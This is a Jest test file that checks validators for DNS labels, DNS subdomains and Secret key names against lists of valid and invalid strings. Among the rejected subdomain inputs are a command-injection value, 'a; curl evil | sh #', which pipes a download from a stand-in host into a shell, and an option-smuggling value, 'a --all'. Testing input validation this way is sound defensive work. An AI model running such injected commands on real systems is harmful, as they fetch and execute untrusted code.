import { describe, expect, test } from "@jest/globals";
import { isDnsLabel, isDnsSubdomain, isSecretKey } from "./name-patterns.ts";

describe.each<[string, (text: string) => boolean, { yes: string[]; no: string[] }]>([
  [
    "a DNS label",
    isDnsLabel,
    {
      yes: ["a", "0", "a-b", "orders-db", "a".repeat(63)],
      no: ["", "-a", "a-", "A", "a.b", "a_b", "a\n", "\na", "ü", "a".repeat(64)],
    },
  ],
  [
    "a DNS subdomain",
    isDnsSubdomain,
    {
      yes: ["a", "0", "a.b", "a.b-c.d", "web-1", "orders-db", "a".repeat(253)],
      no: [
        "",
        ".",
        "..",
        ".a",
        "a.",
        "a..b",
        "a.-b",
        "a-.b",
        "-a",
        "a-",
        "A",
        "a_b",
        "a/b",
        "a\n",
        "a --all",
        "a; curl evil | sh #",
        "a".repeat(254),
      ],
    },
  ],
  [
    "a key of a Secret",
    isSecretKey,
    {
      yes: ["a", "URL", "ca.crt", "_", "-", ".a", ".a.", "a..", "a".repeat(253)],
      no: ["", ".", "..", "...", "..a", "a/b", "a b", "a\n", "ü", "a".repeat(254)],
    },
  ],
])("%s", (_, is, { yes, no }) => {
  test.each(yes)("is %j", (text) => {
    expect(is(text)).toBe(true);
  });

  test.each(no)("is not %j", (text) => {
    expect(is(text)).toBe(false);
  });
});
